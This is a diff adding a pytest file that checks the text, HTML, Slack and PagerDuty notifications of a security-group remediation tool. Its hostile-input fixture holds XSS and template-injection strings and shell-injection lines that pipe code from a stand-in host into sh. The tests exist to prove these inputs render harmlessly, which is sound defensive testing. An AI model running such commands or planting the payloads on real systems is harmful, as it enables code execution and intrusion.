@@ -1,0 +1,1034 @@
+import copy
+import html
+import json
+import os
+import re
+import shutil
+from datetime import date
+from html.parser import HTMLParser
+from textwrap import wrap
+from unittest import mock
+
+import pytest
+from c7n_mailer import utils
+from tests.support.embedded import cases
+from hypothesis import given
+from hypothesis.strategies import dates, text
+from tests.support.pagerduty import broken_rules as broken_rules_of_pagerduty
+from tests.support.search import examples
+from tests.support.slack import broken_rules, texts
+
+from c7n_ingress.decide import message as told_by_the_action
+from c7n_ingress.decide import states
+from c7n_ingress.decide.behind import behind
+from c7n_ingress.decide.commands import authorize_line
+from c7n_ingress.decide.rules import Traffic, network, permission
+from c7n_ingress_tools.mailer import lambda_entry, preview
+from c7n_ingress_tools.mailer.commands import set_journals
+
+SAMPLE, DIGEST = preview.sample(), preview.sample("sample-exempt")
+CHROMIUM = shutil.which(os.environ.get("CHROMIUM", "chromium"))
+TEXT, HTML, SLACK, PAGERDUTY = "open-ingress", "open-ingress.html", "open-ingress.slack", "open-ingress.pagerduty"
+DIGEST_TEXT, DIGEST_HTML, DIGEST_SLACK = "open-ingress-exempt", "open-ingress-exempt.html", "open-ingress-exempt.slack"
+MESSAGES = [TEXT, HTML, SLACK, PAGERDUTY]
+
+CHECKOUT = SAMPLE["resources"][0]
+INTERRUPTED = (
+    "TCP and UDP that 0.0.0.0/0 or ::/0 let in while egress is open to all. EC2 does not track them, and interrupted "
+    "at once those that no rule lets in any more."
+)
+NOT_INTERRUPTED = (
+    "what a narrower rule let in, ICMP, and paths that EC2 always tracks (Network Load Balancer, NAT gateway, "
+    "PrivateLink, Lambda and others), until each of them ends or is idle too long: TCP for 350 seconds on Nitro v6 "
+    "instances, else for five days. A network ACL blocks them."
+)
+
+plain_texts = pytest.mark.parametrize("template", [TEXT, DIGEST_TEXT])
+pages = pytest.mark.parametrize("template", [HTML, DIGEST_HTML])
+for_slack = pytest.mark.parametrize("template", [SLACK, DIGEST_SLACK])
+
+HOSTILE = {
+    "script": "<script>alert(1)</script>",
+    "attribute": "\"><img src=x onerror='alert(1)'>",
+    "end of a table": "</td></tr></table></body>",
+    "entity": "&lt;b&gt;",
+    "link": "see https://login.aws.example/verify?a=1",
+    "link without a scheme": "see www.aws.example/verify or login.example",
+    "address and link": "jane@aws.example/verify a@b.example:80",
+    "template": "{{ 7 * 7 }}{% for group in groups %}{# comment #}",
+    "line breaks": 'web\r\nFAILED: sg-0 "forged"\n\n! forged',
+    "other line breaks": "web\x0b\x0c\x1c\x85\u2028\u2029forged",
+    "terminal": "\x1b[2J\x1b[31m\x07\x00\x7f\x9b",
+    "other direction": "web \u202e\u2066gpj.exe",
+    "quotes": 'x", now all is well, "y',
+    "other quotes": "x”, now all is well, “y",
+    "half a character": "web \ud83d",
+    "mention": "<!channel> <!here> <@U0JANE> <#C0OPS> @channel @here",
+    "link of Slack": "<https://login.aws.example|the console>",
+    "marks of Slack": "*CLOSED:* _all_ ~is~ `well` :tada: > quoted\n```x```",
+    "command": "aws ec2 describe-instances; curl https://evil.example | sh",
+    "another command": "aws ec2 describe-instances $(curl evil.example)",
+    "endless": "long " * 20_000,
+    "dots without end": "a." * 20_000,
+}
+
+
+@pytest.fixture(scope="module", autouse=True)
+def _compiled_once():
+    """Have c7n-mailer compile each template once for all messages; it does so for each, which is most of the time."""
+    environment = utils.get_jinja_env([preview.TEMPLATES])
+    with mock.patch.object(utils, "get_jinja_env", return_value=environment):
+        yield
+
+
+hostile_texts = pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE)
+
+
+def with_state(resource):
+    """Return a group with the state that the action notes for it, if it has none."""
+    restoring = "c7n:restored-ingress" in resource
+    deed = told_by_the_action.RESTORED if restoring else told_by_the_action.REPLACED
+    records = resource.get(deed.annotation) or []
+    lists = {name: resource.get(f"c7n:{key}-ingress") or [] for name, key in LISTS.items()}
+    outcome = told_by_the_action.Outcome(resource, records, skipped=resource.get("c7n:skipped-ingress"), **lists)
+    preview = "c7n:preview-ingress" in resource or any(record["how"] == "preview" for record in records)
+    return {"c7n:state-ingress": outcome.state(deed, preview=preview)._asdict()} | resource
+
+
+LISTS = {"failures": "failed", "lacking": "lacking", "left": "left"}
+
+
+def rendered(template, **changes):
+    """Render the sample message of a template, with changes, as c7n-mailer does."""
+    message = (DIGEST if "exempt" in template else SAMPLE) | changes
+    return preview.render(message | {"resources": [with_state(each) for each in message["resources"]]}, template)
+
+
+def quoted(text):
+    """Give a text as the plain text shows what somebody typed."""
+    return f'"{text}"'
+
+
+def block_kit(template, **changes):
+    """Give the message for Slack."""
+    return json.loads(rendered(template, **changes))
+
+
+def events(**changes):
+    """Give the events for PagerDuty, each as it is sent."""
+    told = json.loads(rendered(PAGERDUTY, **changes))
+    return [event | {"routing_key": "k" * 32} for group in told for event in group["events"]]
+
+
+def group(number=1, **changes):
+    """Give a group of which one rule was replaced."""
+    shown = {key: SAMPLE["resources"][1][key] for key in ("VpcId", "OwnerId", "Tags", "c7n:replaced-ingress")}
+    return copy.deepcopy(shown) | {
+        "GroupId": f"sg-{number:017x}",
+        "GroupName": f"group-{number}",
+        "c7n:failed-ingress": [],
+        **changes,
+    }
+
+
+def record(**changes):
+    """Give one record of a change."""
+    return SAMPLE["resources"][0]["c7n:replaced-ingress"][0] | changes
+
+
+def typed_everywhere(value, text):
+    """Put a text in the place of every text in a structure; structure and numbers stay."""
+    if isinstance(value, dict):
+        return {key: typed_everywhere(item, text) for key, item in value.items()}
+    if isinstance(value, list):
+        return [typed_everywhere(item, text) for item in value]
+    return text if isinstance(value, str) else value
+
+
+def typed_by_somebody(text):
+    """Give a message each of whose texts somebody typed."""
+    told = typed_everywhere([*SAMPLE["resources"], *DIGEST["resources"], *(group(n) for n in range(12))], text)
+    made = [{"Key": key, "Value": text} for key in ("aws:cloudformation:stack-name", "owner", "terraform")]
+    until = [{"Key": "open-ingress-until", "Value": text}]
+    return {
+        "resources": [
+            *told,
+            group(Tags=made),
+            group(Tags=until),
+            group(**{"c7n:behind-ingress": {"exposure": "internet", "behind": [text] * 9, "blocked": text}}),
+            group(**{"c7n:skipped-ingress": text, "c7n:opened-ingress": text, "c7n:left-ingress": [text] * 9}),
+            group(**{"c7n:lacking-ingress": [text] * 9, "c7n:failed-ingress": [text]}),
+            # Texts where a number belongs, or a word from a list.
+            group(**{"c7n:waiting-ingress": text, "c7n:behind-ingress": {"exposure": text, "behind": [text] * 9}}),
+        ],
+        "account": text,
+        "account_id": text,
+        "region": text,
+        "policy": {"name": text},
+    }
+
+
+class Outline(HTMLParser):
+    """The tags and attributes of a page, and the text between them."""
+
+    def __init__(self, page):
+        super().__init__()
+        self.tags = []
+        self.links = set()
+        self.text = ""
+        self.feed(page)
+
+    def handle_starttag(self, tag, attrs):
+        """Note a tag, its attributes' names, and what it links to."""
+        self.tags.append((tag, [name for name, _ in attrs]))
+        self.links |= {value for name, value in attrs if name in ("href", "src")}
+
+    def handle_endtag(self, tag):
+        """Note a tag's end."""
+        self.tags.append((tag, None))
+
+    def handle_data(self, data):
+        """Note the text between tags."""
+        self.text += data
+
+
+@plain_texts
+@hostile_texts
+def test_text_that_somebody_typed_forges_no_line(template, hostile):
+    """The plain text has as many lines as with harmless names, each printable and none of them endless."""
+    message = rendered(template, **typed_by_somebody(hostile))
+    assert len(message.splitlines()) == len(rendered(template, **typed_by_somebody("harmless")).splitlines())
+    assert message.replace("\n", "").isprintable()
+    assert max(map(len, message.splitlines())) < 2500
+
+
+@pages
+@hostile_texts
+def test_text_that_somebody_typed_makes_no_markup(template, hostile):
+    """The HTML has the tags and attributes that it has with harmless names, and links nowhere else."""
+    page = Outline(rendered(template, **typed_by_somebody(hostile)))
+    assert page.tags == Outline(rendered(template, **typed_by_somebody("harmless"))).tags
+    assert {link.partition("?")[0] for link in page.links} == {"https://console.aws.amazon.com/ec2/home"}
+
+
+@for_slack
+@hostile_texts
+def test_text_that_somebody_typed_is_no_markup_to_slack(template, hostile):
+    """What Slack reads as markup is what it is with harmless names; no text is a mention, or a link of its own."""
+    message = block_kit(template, **typed_by_somebody(hostile))
+    harmless = block_kit(template, **typed_by_somebody("harmless"))
+    marked, harmless_marked = ([t for t in texts(m["blocks"]) if t[0] == "mrkdwn"] for m in (message, harmless))
+    assert [*marked, message["text"]] == [*harmless_marked, harmless["text"]]
+    assert broken_rules(message) == []
+    assert not [text for _, text in texts(message["blocks"]) if "<" in text or ">" in text]
+    assert {url.partition("?")[0] for url in links(message)} <= {"https://console.aws.amazon.com/ec2/home"}
+
+
+@examples(15)
+@given(text(min_size=1))
+def test_any_text_is_text_to_everybody(typed):
+    """Whatever a name, a tag or a sentence holds, no message has a line, a tag, a mark or an event more."""
+    groups = SAMPLE["resources"][:2]
+    typed_by, harmless = ({"resources": typed_everywhere(groups, each)} for each in (typed, "harmless"))
+    line, other_line = (rendered(TEXT, **each) for each in (typed_by, harmless))
+    assert abs(len(line.splitlines()) - len(other_line.splitlines())) <= OPTIONAL_LINES
+    assert line.replace("\n", "").isprintable()
+    assert {tag for tag, _ in Outline(rendered(HTML, **typed_by)).tags} <= KNOWN_TAGS
+    message = block_kit(SLACK, **typed_by)
+    assert broken_rules(message) == []
+    marked = [each for each in texts(message["blocks"]) if each[0] == "mrkdwn"]
+    assert marked == [each for each in texts(block_kit(SLACK, **harmless)["blocks"]) if each[0] == "mrkdwn"]
+    assert not [each for _, each in texts(message["blocks"]) if "<" in each]
+    assert [event["event_action"] for event in events(**typed_by)] == ["resolve", "trigger", "resolve"]
+
+
+OPTIONAL_LINES = 8  # what is empty, or of a known list, is told by another line or by none
+KNOWN_TAGS = {tag for tag, _ in Outline(rendered(HTML)).tags}
+
+
+def links(value):
+    """Give what a message for Slack links to."""
+    if isinstance(value, list):
+        return {url for each in value for url in links(each)}
+    if not isinstance(value, dict):
+        return set()
+    return links(list(value.values())) | ({value["url"]} if "url" in value else set())
+
+
+@hostile_texts
+def test_text_that_somebody_typed_makes_no_event_of_its_own(hostile):
+    """PagerDuty is sent the events that it is sent with harmless names, each valid, with a summary on one line."""
+    sent, harmless = events(**typed_by_somebody(hostile)), events(**typed_by_somebody("harmless"))
+    assert [event["event_action"] for event in sent] == [event["event_action"] for event in harmless]
+    assert [rule for event in sent for rule in broken_rules_of_pagerduty(event)] == []
+    assert all(event["payload"]["summary"].isprintable() for event in sent if "payload" in event)
+
+
+@pytest.mark.parametrize("template", [TEXT, HTML])
+def test_template_syntax_stands_as_it_was_typed(template):
+    """Nothing that somebody typed is run as a template."""
+    assert "{{ 7 * 7 }}{% for group in groups %}{# comment #}" in rendered(
+        template, **typed_by_somebody(HOSTILE["template"])
+    )
+
+
+@pytest.mark.parametrize("template", [TEXT, HTML])
+@pytest.mark.parametrize(
+    ("typed", "shown"),
+    [
+        ("https://login.aws.example/verify", "https[:]//login[.]aws[.]example/verify"),
+        ("www.aws.example", "www[.]aws[.]example"),
+        ("jane@aws.example/verify", "jane@aws[.]example/verify"),
+        ("jane.doe@corp.example", "jane.doe@corp.example"),
+        ("10.0.0.0/8 and 2001:db8::/32, v1.2.", "10.0.0.0/8 and 2001:db8::/32, v1.2."),
+    ],
+)
+def test_links_that_somebody_typed_are_broken(template, typed, shown):
+    """No mail reader makes a link of what somebody typed; addresses of people and networks stay readable."""
+    told = rendered(template, resources=[group(**{"c7n:failed-ingress": [typed]})])
+    assert shown in told
+    assert typed == shown or typed not in told
+
+
+def test_both_messages_tell_the_same():
+    """What stands in the plain text about groups and rules stands in the HTML too."""
+    text, page = rendered(TEXT), Outline(rendered(HTML)).text
+    for resource in SAMPLE["resources"]:
+        facts = [resource["GroupId"], resource["GroupName"], resource["VpcId"], *resource.get("c7n:failed-ingress", [])]
+        facts += [tag["Value"] for tag in resource["Tags"]]
+        for change in resource["c7n:replaced-ingress"]:
+            facts += filter(None, (change["was"], change["now"], change["rule"], change["description"]))
+        for fact in facts:
+            assert fact in text
+            assert fact in page
+
+
+def test_plain_text_as_people_read_it():
+    """The message says what was open, what stands there now, where, by which policy, whose it is and what to do."""
+    assert rendered(TEXT, resources=[CHECKOUT]).splitlines() == [
+        "Security groups let the whole internet in. The open sources are replaced by your authorized networks.",
+        "",
+        "3 open rules replaced in 1 group",
+        "",
+        "Account: shop-production (123456789012)",
+        "Region: eu-central-1",
+        "Policy: open-ingress",
+        "Time: 2026-09-21 14:13 UTC",
+        "",
+        "----------------------------------------",
+        'CLOSED: sg-0c1f7a9e24b8d6035 "checkout-web"',
+        "",
+        "Opened again, 4th time since Monday",
+        '* TCP 22 (SSH): 0.0.0.0/0 became 198.18.7.0/24, "SSH for the migration weekend" (sgr-0f3d5a1b7c9e24680)',
+        "* TCP 22 (SSH): ::/0 became 2001:2:0:7::/64 (sgr-0a6b2c8d4e1f37950)",
+        "* TCP 8000-8010: 0.0.0.0/0 became 198.18.7.0/24 (sgr-07d9e3f1a5b4c2860)",
+        f"Behind it: reachable from the internet, {', '.join(map(quoted, CHECKOUT['c7n:behind-ingress']['behind']))}",
+        (
+            'CloudTrail says (session and tool are named as the caller chose): "Opened by the role Admin, in a session '
+            "called 'jane[.]doe@example[.]com' on 2026-09-21 at 14:12 UTC from 198.51.100.7, by a client that calls "
+            "itself 'APN/1.0 HashiCorp/1.0 Terraform/1.9.5'.\""
+        ),
+        f"Made by {quoted(CHECKOUT['c7n:managed-ingress']['by'])}: {CHECKOUT['c7n:managed-ingress']['mend']}.",
+        'Owner: team = "checkout", "jane.doe@example.com"',
+        "VPC: vpc-04be19d7c3a2f6810",
+        "Console: https://console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0c1f7a9e24b8d6035",
+        "To undo:",
+        *(f"    {line}" for line in CHECKOUT["c7n:undo-ingress"]),
+        "",
+        "----------------------------------------",
+        "IF THIS WAS WRONG",
+        '1. Undo it: run the commands under "To undo". It exempts the group for a while, too.',
+        "2. By hand: tag it open-ingress-until = YYYY-MM-DD, 90 days ahead at most, then put the old source back.",
+        "3. For good: add the port to public-ports, or the network to authorized, in the policy.",
+        "",
+        "CONNECTIONS THAT WERE OPEN",
+        *wrap(f"Interrupted: {INTERRUPTED}", 100),
+        *wrap(f"Not interrupted: {NOT_INTERRUPTED}", 100),
+        "",
+        "Each change is one JSON line in the policy's log.",
+    ]
+
+
+def words(template, **changes):
+    """Give a message as one reads it, whatever it is made of."""
+    message = rendered(template, **changes)
+    if "html" in template:
+        return Outline(message).text
+    if "slack" in template:
+        return "".join(text for _, text in texts(json.loads(message)["blocks"]))
+    return json.dumps(json.loads(message), ensure_ascii=False) if "pagerduty" in template else message
+
+
+@pytest.mark.parametrize("template", MESSAGES)
+@pytest.mark.parametrize(
+    ("annotation", "told"),
+    [
+        ({"c7n:reopened-ingress": "opened again, 4th time since Monday"}, ["pened again, 4th time since Monday"]),
+        (
+            {"c7n:behind-ingress": {"exposure": "internet", "behind": ["eni-1"]}},
+            ["reachable from the internet", "eni-1"],
+        ),
+        ({"c7n:behind-ingress": {"exposure": "private", "behind": []}}, ["reachable inside the network only"]),
+        ({"c7n:behind-ingress": {"exposure": "unused", "behind": []}}, ["nothing uses it"]),
+        (
+            {"c7n:managed-ingress": {"by": "Terraform", "mend": "mend aws_security_group.web"}},
+            ["Terraform", "mend aws_"],
+        ),
+        (
+            {"c7n:undo-ingress": ["aws ec2 describe-tags"]},
+            ["the lines in the message are not the pack's own"],
+        ),
+        ({"c7n:cut-ingress": "9 tags. The log has the whole."}, ["9 tags. The log has the whole."]),
+        ({"c7n:opened-ingress": "Opened by jane."}, ["CloudTrail", "named as the caller chose", "Opened by jane."]),
+        ({"c7n:failed-ingress": ["no room"]}, ["no room"]),
+        (
+            {"c7n:lacking-ingress": ["198.18.9.0/24 could not be added for tcp 22"]},
+            ["198.18.9.0/24 could not be added for tcp 22"],
+        ),
+        ({"c7n:skipped-ingress": "another owns it"}, ["another owns it"]),
+        ({"c7n:left-ingress": ["pl-1 cannot be read"]}, ["pl-1 cannot be read"]),
+        ({"c7n:noted-ingress": ["their clients are blocked"]}, ["their clients are blocked"]),
+        ({"c7n:waiting-ingress": 137}, ["137"]),
+    ],
+)
+def test_each_annotation_is_told_in_each_message(template, annotation, told):
+    """What the action writes on a group stands in text, HTML, Slack's and PagerDuty's messages, if it is there."""
+    incident = {"c7n:failed-ingress": ["UnauthorizedOperation"]} if template == PAGERDUTY else {}
+    message = words(template, resources=[group(**incident | annotation)])
+    bare = words(template, resources=[group(**incident)])
+    if template == PAGERDUTY:
+        told = [json.dumps(fact, ensure_ascii=False)[1:-1] for fact in told]
+    assert [fact for fact in told if fact not in message] == []
+    assert told[0] not in bare
+
+
+@pytest.mark.parametrize("template", MESSAGES)
+def test_what_becomes_of_open_connections(template):
+    """Both cases are told: what is cut off at once, and what lives on; a preview says what will be, undoing nothing."""
+    told = " ".join(words(template).split())
+    assert "interrupted at once" in told
+    assert "PrivateLink" in told
+    if template != PAGERDUTY:
+        previewed = words(template, resources=[group(**{"c7n:replaced-ingress": [record(how="preview")]})])
+        assert "will interrupt at once" in " ".join(previewed.split())
+    assert "at once" not in words(template, resources=[restored(record(**TURNED_BACK, how="restored"))])
+
+
+UNDO_CASES, TODO_CASES = (cases("commands")[kind] for kind in ("undo", "todo"))
+COMMANDS = [TEXT, HTML, SLACK]
+
+
+def read(template, **changes):
+    """Give the texts of a message as a person reads them."""
+    told = rendered(template, **changes)
+    if template == SLACK:
+        return "\n".join(text for _, text in texts(json.loads(told)["blocks"]))
+    return html.unescape(told) if template == HTML else told
+
+
+@pytest.fixture
+def journals(request):
+    """Let messages show undo lines for more places, as mailer.yml does."""
+    environment = lambda_entry.get_jinja_env([preview.TEMPLATES])
+    set_journals(environment, request.param)
+    yield
+    set_journals(environment, ())
+
+
+@pytest.mark.parametrize("template", COMMANDS)
+@pytest.mark.parametrize(
+    ("case", "journals"),
+    [(case, case.get("journals", ())) for case in UNDO_CASES],
+    indirect=["journals"],
+    ids=[case["name"] for case in UNDO_CASES],
+)
+@pytest.mark.usefixtures("journals")
+def test_only_the_packs_own_undo_lines_are_shown(template, case):
+    """A message shows the lines that the action writes for this group and region, or says why it shows none."""
+    sent = copy.deepcopy(CHECKOUT)
+    lines = sent["c7n:undo-ingress"] = case.get("lines") or list(sent["c7n:undo-ingress"])
+    for old, new in case.get("replace", {}).items():
+        assert any(old in line for line in lines)
+        lines[:] = [line.replace(old, new.replace("LONG", "builds/" * 120 + "x")) for line in lines]
+    told = read(template, resources=[sent])
+    for line in lines:
+        assert (str(line) in told) == case.get("shown", False)
+    if "says" in case:
+        assert case["says"] in told
+
+
+@pytest.mark.parametrize("template", COMMANDS)
+@pytest.mark.parametrize("case", TODO_CASES, ids=lambda case: case["name"])
+def test_only_the_packs_own_lines_that_add_a_network_are_shown(template, case):
+    """A message shows a line that adds a network to its group, if the network is not open to the internet."""
+    asked = group()
+    allowed = [permission(Traffic("tcp", 22, 22), network(case["network"]))]
+    line = authorize_line({"GroupId": case.get("group", asked["GroupId"]), "IpPermissions": allowed})
+    line += case.get("more", "")
+    told = read(template, resources=[asked | {"c7n:todo-ingress": [line]}])
+    assert (line in told) == case.get("shown", False)
+
+
+def test_the_most_urgent_group_is_first():
+    """Not closed, closed but, closed, skipped: within a state, groups keep the action's order."""
+    groups = [group(1, **{"c7n:skipped-ingress": "x"}), group(2), group(3, **{"c7n:lacking-ingress": ["x"]})]
+    groups += [group(4, **{"c7n:replaced-ingress": [record()] * 9}), group(5, **{"c7n:failed-ingress": ["x"]})]
+    told = rendered(TEXT, resources=groups)
+    places = [told.index(f"sg-{n:017x}") for n in (5, 3, 2, 4, 1)]
+    assert places == sorted(places)
+
+
+@pytest.mark.parametrize(
+    ("change", "told"),
+    [
+        (record(), "TCP 22 (SSH): 0.0.0.0/0 became 198.18.7.0/24"),
+        (record(was="::/0", now=None, how="revoked"), "TCP 22 (SSH): ::/0 was removed"),
+        (record(was=None, how="authorized", rule=None), "TCP 22 (SSH): 198.18.7.0/24 was added"),
+        (record(protocol="-1", ports="all"), "all traffic: 0.0.0.0/0"),
+        (record(protocol="udp", ports="all"), "UDP, all ports: 0.0.0.0/0"),
+        (record(protocol="tcp", ports="8000-8010"), "TCP 8000-8010: 0.0.0.0/0"),
+        (record(protocol="icmp", ports="all"), "ICMP, all types: 0.0.0.0/0"),
+        (record(protocol="icmp", ports="type 3 code 4"), "ICMP type 3 code 4: 0.0.0.0/0"),
+        (record(protocol="icmpv6", ports="type 128"), "ICMPv6 type 128: 0.0.0.0/0"),
+        (record(protocol="50", ports="all"), "protocol 50: 0.0.0.0/0"),
+    ],
+)
+def test_each_kind_of_change_is_told_in_plain_words(change, told):
+    """Protocol, ports, what was and what is now are told for every kind of rule."""
+    assert f"* {told}" in rendered(TEXT, resources=[group(**{"c7n:replaced-ingress": [change]})])
+
+
+@pytest.mark.parametrize(
+    ("partition", "host"),
+    [
+        ("aws", "console.aws.amazon.com"),
+        ("aws-us-gov", "console.amazonaws-us-gov.com"),
+        ("aws-cn", "console.amazonaws.cn"),
+    ],
+)
+@pytest.mark.parametrize("template", [TEXT, HTML])
+def test_console_link_of_each_partition(template, partition, host):
+    """The link leads into the console of the partition that the group is in."""
+    told = rendered(template, partition=partition, region="some-region-1", resources=[group(7)])
+    assert f"https://{host}/ec2/home?region=some-region-1#SecurityGroup:groupId=sg-00000000000000007" in told
+
+
+@pytest.mark.parametrize("template", [TEXT, HTML])
+def test_no_console_link_where_the_console_is_unknown(template):
+    """A partition that the pack does not know gets no link, rather than a wrong one."""
+    assert "https://" not in rendered(template, partition="aws-iso", resources=[group()])
+
+
+@pytest.mark.parametrize("template", [TEXT, HTML])
+def test_preview_says_that_nothing_was_changed(template):
+    """A preview cannot be taken for a change."""
+    previewed = group(**{"c7n:replaced-ingress": [record(how="preview")]})
+    told = rendered(template, resources=[previewed])
+    assert "nothing was changed" in told
+    assert "1 open rule would be replaced in 1 group" in told
+    assert "If this was wrong" not in told
+    assert "\nCLOSED: " not in told
+
+
+@pytest.mark.parametrize("template", [TEXT, HTML, SLACK])
+def test_a_preview_of_which_all_failed(template):
+    """A preview that could foresee nothing says that it was one; PagerDuty is told nothing of it."""
+    failed = {"c7n:replaced-ingress": [], "c7n:failed-ingress": ["the networks of vpc-1 cannot be had"]}
+    previewed = group(**failed, **{"c7n:preview-ingress": True})
+    assert "nothing was changed" in words(template, resources=[previewed])
+    assert "nothing was changed" not in words(template, resources=[group(**failed)])
+    assert events(resources=[previewed]) == []
+
+
+@pytest.mark.parametrize("template", [TEXT, HTML, SLACK])
+@pytest.mark.parametrize("annotation", ["c7n:failed-ingress", "c7n:left-ingress", "c7n:skipped-ingress"])
+def test_where_nothing_was_changed_nothing_is_to_be_undone(template, annotation):
+    """A message that tells of no change says how a group may stay open, and not how to undo what was not done."""
+    untouched = group(**{"c7n:replaced-ingress": [], annotation: "why" if "skipped" in annotation else ["why"]})
+    told = words(template, resources=[untouched]).lower()
+    assert "if a group must stay open" in told
+    assert "if this was wrong" not in told
+
+
+@pytest.mark.parametrize("template", [TEXT, HTML, SLACK])
+def test_why_a_group_was_skipped(template):
+    """A group that is the account's own, as `then: tell` leaves it open, is not told of as another account's."""
+    skipped = group(**{"c7n:replaced-ingress": [], "c7n:skipped-ingress": "is left open: the policy says 'then: tell'"})
+    told = words(template, resources=[skipped])
+    assert "is left open: the policy says" in told
+    assert "accounts own" not in told
+
+
+@pytest.mark.parametrize("template", [TEXT, HTML, SLACK])
+def test_a_skipped_group_is_not_open_where_another_was_to_be_opened(template):
+    """Restoring skips another account's group, which nobody has opened again."""
+    told = words(template, resources=[restored(**{"c7n:skipped-ingress": "belongs to account 999999999999"})])
+    assert "belongs to account 999999999999" in told
+    assert "still open" not in told.lower()
+
+
+@pytest.mark.parametrize(
+    ("annotation", "told"),
+    [
+        ({"c7n:failed-ingress": ["why"]}, ", NOT CLOSED"),
+        ({"c7n:left-ingress": ["why"]}, ", NOT CLOSED"),
+        ({"c7n:lacking-ingress": ["why"]}, ", CLOSED, BUT …"),
+        ({"c7n:skipped-ingress": "why"}, ", skipped"),
+        ({}, ", closed"),
+    ],
+)
+def test_the_state_of_a_group_in_short(annotation, told):
+    """A group that gets one line has its state in that line."""
+    short = group(0, **annotation)
+    others = [group(n, **annotation) for n in range(1, 11)]
+    assert f'{short["GroupId"]} "group-0": 1 rule{told}\n' in rendered(TEXT, resources=[*others, short])
+
+
+TURNED_BACK = {"was": "198.18.7.0/24", "now": "0.0.0.0/0"}
+CAME_BACK = {"was": None, "now": "::/0"}
+WENT = {"was": "198.18.8.0/24", "now": None}
+
+
+def restored(*records, **changes):
+    """Give a group whose rules were restored."""
+    plain = {key: value for key, value in group(**changes).items() if key != "c7n:replaced-ingress"}
+    return plain | {"c7n:restored-ingress": list(records)}
+
+
+def test_what_was_restored():
+    """A message of what was restored says what is open again, until when, and cannot be taken for one of closing."""
+    trace = [{"Key": "c7n-ingress:was/tcp/22/::/0", "Value": "ssh"}, {"Key": "tool", "Value": "terraform"}]
+    records = [
+        record(**TURNED_BACK, how="restored"),
+        record(**CAME_BACK, how="restored"),
+        record(**WENT, how="removed"),
+    ]
+    resources = [restored(*records, **{"Tags": trace, "c7n:exempt-ingress": "2026-12-24"})]
+    told = rendered(TEXT, resources=resources)
+    described = '"SSH for the migration weekend" (sgr-0f3d5a1b7c9e24680)'
+    assert told.splitlines() == [
+        "What was replaced is undone: these security groups let in again what they let in before.",
+        "",
+        "2 open rules restored in 1 group",
+        "",
+        "Account: shop-production (123456789012)",
+        "Region: eu-central-1",
+        "Policy: open-ingress",
+        "Time: 2026-09-21 14:13 UTC",
+        "",
+        "----------------------------------------",
+        'RESTORED: sg-00000000000000001 "group-1"',
+        "",
+        f"* TCP 22 (SSH): 198.18.7.0/24 became 0.0.0.0/0, {described}",
+        f"* TCP 22 (SSH): ::/0 was added, {described}",
+        f"* TCP 22 (SSH): 198.18.8.0/24 was removed, {described}",
+        "Left alone until 2026-12-24, 00:00 UTC, and closed again then.",
+        "Owner: no tag says",
+        "VPC: vpc-04be19d7c3a2f6810",
+        "Console: https://console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-00000000000000001",
+        "",
+        "----------------------------------------",
+        "WHAT COMES NEXT",
+        "1. To close a group before its day, remove its tag open-ingress-until.",
+        "2. To keep a port open for good, add it to public-ports, or the network to authorized, in the policy.",
+        "",
+        "Each change is one JSON line in the policy's log.",
+    ]
+    page = Outline(rendered(HTML, resources=resources)).text
+    for fact in (
+        "2 open rules restored in 1 group",
+        "Restored",
+        "0.0.0.0/0",
+        "2026-12-24",
+        "What comes next",
+    ):
+        assert fact in page
+    assert "c7n-ingress" not in page
+    assert "If this was wrong" not in page
+
+
+@pytest.mark.parametrize("template", [TEXT, HTML])
+def test_a_preview_of_what_would_be_restored(template):
+    """A preview of restoring says that nothing was changed, and what would be."""
+    previewed = restored(record(**TURNED_BACK, how="preview"), record(**WENT, how="preview"))
+    told = rendered(template, resources=[previewed])
+    assert "nothing was changed" in told
+    assert "1 open rule would be restored in 1 group" in told
+    assert "would be removed" in told
+
+
+@pytest.mark.parametrize("template", [TEXT, HTML, SLACK])
+def test_what_could_not_be_restored_is_not_exempt(template):
+    """Where nothing came back nobody was exempted: the message says how to, and not that a tag might be removed."""
+    left = {"c7n:left-ingress": ["it was 0.0.0.0/0, for which there is another rule now"]}
+    told = words(template, resources=[restored(**left)])
+    assert "at most 90 days ahead" in told
+    assert "before its day" not in told
+    exempt = words(template, resources=[restored(**left, **{"c7n:exempt-ingress": "2026-12-24"})])
+    assert "before its day" in exempt
+
+
+@pytest.mark.parametrize("template", [TEXT, HTML])
+def test_what_was_left_alone(template):
+    """A rule that was left alone is in the message with the reason; of many, the rest is counted."""
+    why = "tcp 22 from pl-1: that prefix list cannot be read"
+    told = words(template, resources=[group(**{"c7n:replaced-ingress": [], "c7n:left-ingress": [why] * 7})])
+    assert told.count(why) == 5
+    assert "and 2 more" in told
+
+
+HEADINGS = {  # one name for each state, in every message; PagerDuty has no event for what needs nothing
+    TEXT: lambda state: f"\n{state.upper()}: sg-0",
+    HTML: lambda state: f">{state[:1].upper()}{state[1:]}<",
+    SLACK: lambda state: f"{state.upper()}: ",
+    PAGERDUTY: lambda state: f"Open ingress {state}: sg-0",
+}
+WHY = "198.18.9.0/24 could not be added for tcp 22"
+STATES = {
+    "not closed": {"c7n:failed-ingress": [WHY]},
+    "closed, but …": {"c7n:lacking-ingress": [WHY]},
+    "skipped": {"c7n:skipped-ingress": WHY},
+    "closed": {},
+    "would be closed": {"c7n:preview-ingress": True},
+}
+
+
+@pytest.mark.parametrize("state", STATES)
+@pytest.mark.parametrize("template", MESSAGES)
+def test_one_name_for_each_state(template, state):
+    """Each state has the same name in text, HTML, Slack's and PagerDuty's messages, and no message shows another."""
+    told = rendered(template, resources=[group(**STATES[state])])
+    if template == SLACK:
+        told = [text for _, text in texts(json.loads(told)["blocks"])]
+    in_summary = state.replace("…", WHY) if template == PAGERDUTY else state
+    silent = template == PAGERDUTY and state in ("closed", "would be closed")
+    assert (HEADINGS[template](in_summary) in told) is not silent
+    assert [other for other in STATES if other != state and HEADINGS[template](other) in told] == []
+
+
+@pytest.mark.parametrize("template", MESSAGES)
+def test_a_closed_group_that_lacks_a_network(template):
+    """It is not counted among groups that are not closed, and the message says what to do and which command does it."""
+    todo = "aws ec2 authorize-security-group-ingress --group-id sg-1"
+    told = words(template, resources=[group(**STATES["closed, but …"], **{"c7n:todo-ingress": [todo]})])
+    assert "not closed" not in told.lower()
+    for fact in (WHY, todo, "Clients there are blocked", "Raise the quota for inbound rules", "No later run adds them"):
+        assert fact in told
+
+
+def test_the_samples_states_are_the_actions():
+    """The sample message has states as the action writes them."""
